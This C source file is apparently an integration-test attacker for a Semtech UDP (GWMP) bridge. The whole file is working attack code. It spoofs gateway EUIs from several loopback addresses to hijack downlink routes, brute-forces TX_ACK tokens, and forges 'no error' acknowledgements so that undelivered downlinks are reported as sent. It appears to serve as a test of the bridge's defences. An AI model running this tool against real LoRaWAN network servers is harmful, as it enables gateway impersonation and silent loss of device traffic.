/* SPDX-License-Identifier: MIT */
/*
 * gwmp_attack.c - a Semtech UDP (GWMP) attacker for the integration tests:
 * what anyone who can send datagrams to the bridge can do, since the
 * protocol carries no authentication (Semtech PROTOCOL.TXT §2).
 *
 *   gwmp_attack --server HOST:PORT [--bind ADDR] [--addresses N]
 *               [--eui HEX] [--euis N] [--type pull|txack] [--rate R]
 *               [--duration S] [--answer]
 *
 * Sends datagrams claiming the EUIs eui, eui + 1, ..., eui + euis - 1 in
 * turn, at `rate` per second (0: as fast as the socket takes them) for
 * `duration` seconds, from `addresses` local IPv4 addresses starting at
 * ADDR (127.0.0.2, 127.0.0.3, ...: Linux delivers all of 127.0.0.0/8
 * locally); EUI i always comes from address i mod N, so each claim looks
 * like one steady gateway. Sections: Semtech PROTOCOL.TXT.
 *   pull   PULL_DATA (§5.2): claims the downlink route of the EUI.
 *   txack  TX_ACK (§5.5) "no error" with token 0, 1, 2, ...: guesses the
 *          token of a PULL_RESP in flight to make the bridge report a
 *          downlink as sent.
 * --answer: every PULL_RESP received (§5.4) is answered at once with a
 * TX_ACK "no error" carrying its token, as a real gateway would after
 * programming the transmission: a downlink hijacked this way would be
 * reported "sent" although no device received it.
 *
 * At the end one line on stdout: "sent=N send_errors=N pull_ack=N
 * pull_resp=N tx_ack=N". Exit 0, 1 on a socket error, 2 on a usage error.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "base/lb_err.h"
#include "gwmp/gwmp.h"

#define MAX_ADDRESSES 256
#define RECV_BUF 2048
#define TXACK_OK "{\"txpk_ack\":{\"error\":\"NONE\"}}"

struct opts {
	struct sockaddr_in server;
	struct in_addr bind;
	unsigned addresses;
	uint64_t eui;
	uint64_t euis;
	bool txack;
	double rate;
	double duration_s;
	bool answer;
};

struct counts {
	uint64_t sent, send_errors, pull_ack, pull_resp, tx_ack;
};

struct attacker {
	struct opts o;
	int fd[MAX_ADDRESSES];
	uint64_t last_eui[MAX_ADDRESSES];    /* what each socket claimed last */
	uint16_t token;
	struct counts n;
};

static int64_t now_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
}

static void usage(FILE *out)
{
	fprintf(out, "usage: gwmp_attack --server HOST:PORT [--bind ADDR] [--addresses N] "
		     "[--eui HEX] [--euis N] [--type pull|txack] [--rate R] [--duration S] "
		     "[--answer]\n");
}

static int parse_server(const char *s, struct sockaddr_in *out)
{
	char host[64];
	const char *colon = strrchr(s, ':');

	if (!colon || (size_t)(colon - s) >= sizeof(host))
		return LB_ERR_INVAL;
	memcpy(host, s, (size_t)(colon - s));
	host[colon - s] = '\0';
	memset(out, 0, sizeof(*out));
	out->sin_family = AF_INET;
	out->sin_port = htons((uint16_t)atoi(colon + 1));
	return inet_pton(AF_INET, host, &out->sin_addr) == 1 ? LB_OK : LB_ERR_INVAL;
}

static int parse_args(struct opts *o, int argc, char **argv)
{
	static const struct option longs[] = {
		{"server", required_argument, NULL, 's'}, {"bind", required_argument, NULL, 'b'},
		{"addresses", required_argument, NULL, 'n'}, {"eui", required_argument, NULL, 'e'},
		{"euis", required_argument, NULL, 'E'}, {"type", required_argument, NULL, 't'},
		{"rate", required_argument, NULL, 'r'}, {"duration", required_argument, NULL, 'd'},
		{"answer", no_argument, NULL, 'a'}, {"help", no_argument, NULL, 'h'},
		{NULL, 0, NULL, 0}};
	int c;

	*o = (struct opts){.addresses = 1, .eui = 0xaa555a0000000001ULL, .euis = 1, .rate = 1,
			   .duration_s = 1};
	inet_pton(AF_INET, "127.0.0.2", &o->bind);
	o->server.sin_family = 0;
	while ((c = getopt_long(argc, argv, "", longs, NULL)) != -1) {
		switch (c) {
		case 's': if (parse_server(optarg, &o->server) != LB_OK) return LB_ERR_INVAL; break;
		case 'b': if (inet_pton(AF_INET, optarg, &o->bind) != 1) return LB_ERR_INVAL; break;
		case 'n': o->addresses = (unsigned)strtoul(optarg, NULL, 10); break;
		case 'e': o->eui = strtoull(optarg, NULL, 16); break;
		case 'E': o->euis = strtoull(optarg, NULL, 10); break;
		case 't': o->txack = !strcmp(optarg, "txack");
			  if (!o->txack && strcmp(optarg, "pull")) return LB_ERR_INVAL;
			  break;
		case 'r': o->rate = strtod(optarg, NULL); break;
		case 'd': o->duration_s = strtod(optarg, NULL); break;
		case 'a': o->answer = true; break;
		case 'h': usage(stdout); exit(0);
		default: return LB_ERR_INVAL;
		}
	}
	if (o->server.sin_family != AF_INET || o->addresses < 1 || o->addresses > MAX_ADDRESSES ||
	    o->euis < 1 || o->rate < 0 || o->duration_s <= 0)
		return LB_ERR_INVAL;
	return LB_OK;
}

/* One socket bound to bind + i (port chosen by the kernel), connected to
 * the server so only its datagrams come back. */
static int open_socket(const struct opts *o, unsigned i)
{
	struct sockaddr_in local = {.sin_family = AF_INET};
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	local.sin_addr.s_addr = htonl(ntohl(o->bind.s_addr) + i);
	if (fd < 0 || bind(fd, (struct sockaddr *)&local, sizeof(local)) != 0 ||
	    connect(fd, (const struct sockaddr *)&o->server, sizeof(o->server)) != 0) {
		perror("gwmp_attack: socket");
		if (fd >= 0)
			close(fd);
		return -1;
	}
	return fd;
}

static void send_one(struct attacker *a, unsigned sock, enum gwmp_type type, uint64_t eui,
		     const uint8_t tok[GWMP_LEN_TOKEN], const char *json)
{
	uint8_t buf[256];
	size_t len;

	if (gwmp_build_up(2, tok, type, eui, json, buf, sizeof(buf), &len) != LB_OK)
		return;
	if (send(a->fd[sock], buf, len, 0) == (ssize_t)len)
		a->n.sent++;
	else
		a->n.send_errors++;
	a->last_eui[sock] = eui;
}

/* The i-th datagram of the attack. */
static void send_next(struct attacker *a, uint64_t i)
{
	uint64_t k = i % a->o.euis;
	unsigned sock = (unsigned)(k % a->o.addresses);
	uint8_t tok[GWMP_LEN_TOKEN];

	if (a->o.txack) {   /* every token in turn */
		tok[0] = (uint8_t)(i >> 8);
		tok[1] = (uint8_t)i;
		send_one(a, sock, GWMP_TX_ACK, a->o.eui + k, tok, TXACK_OK);
		return;
	}
	a->token++;
	tok[0] = (uint8_t)(a->token >> 8);
	tok[1] = (uint8_t)a->token;
	send_one(a, sock, GWMP_PULL_DATA, a->o.eui + k, tok, NULL);
}

/* What the server sent back: ACKs are counted, a PULL_RESP is counted and,
 * with --answer, acknowledged as transmitted. */
static void receive(struct attacker *a, unsigned sock)
{
	uint8_t buf[RECV_BUF];
	ssize_t n;

	while ((n = recv(a->fd[sock], buf, sizeof(buf), 0)) >= GWMP_LEN_HDR) {
		if (buf[3] == GWMP_PULL_ACK)
			a->n.pull_ack++;
		if (buf[3] != GWMP_PULL_RESP)
			continue;
		a->n.pull_resp++;
		if (!a->o.answer)
			continue;
		send_one(a, sock, GWMP_TX_ACK, a->last_eui[sock], buf + 1, TXACK_OK);
		a->n.tx_ack++;
	}
}

static void run(struct attacker *a)
{
	struct pollfd p[MAX_ADDRESSES];
	int64_t start = now_ns(), end = start + (int64_t)(a->o.duration_s * 1e9);
	int64_t interval = a->o.rate > 0 ? (int64_t)(1e9 / a->o.rate) : 0;
	uint64_t i = 0;

	for (unsigned k = 0; k < a->o.addresses; k++)
		p[k] = (struct pollfd){.fd = a->fd[k], .events = POLLIN};
	for (int64_t now = start; now < end; now = now_ns()) {
		/* Catch up with the schedule: on a loaded machine this sends
		 * small bursts, the average rate holds. */
		while (now < end && (interval == 0 || start + (int64_t)i * interval <= now)) {
			send_next(a, i++);
			if (interval == 0 && i % 64 == 0)
				break;
		}
		if (poll(p, a->o.addresses, interval ? 1 : 0) <= 0)
			continue;
		for (unsigned k = 0; k < a->o.addresses; k++)
			if (p[k].revents & POLLIN)
				receive(a, k);
	}
}

int main(int argc, char **argv)
{
	static struct attacker a;

	if (parse_args(&a.o, argc, argv) != LB_OK) {
		usage(stderr);
		return 2;
	}
	for (unsigned k = 0; k < a.o.addresses; k++)
		if ((a.fd[k] = open_socket(&a.o, k)) < 0)
			return 1;
	run(&a);
	printf("sent=%llu send_errors=%llu pull_ack=%llu pull_resp=%llu tx_ack=%llu\n",
	       (unsigned long long)a.n.sent, (unsigned long long)a.n.send_errors,
	       (unsigned long long)a.n.pull_ack, (unsigned long long)a.n.pull_resp,
	       (unsigned long long)a.n.tx_ack);
	for (unsigned k = 0; k < a.o.addresses; k++)
		close(a.fd[k]);
	return 0;
}
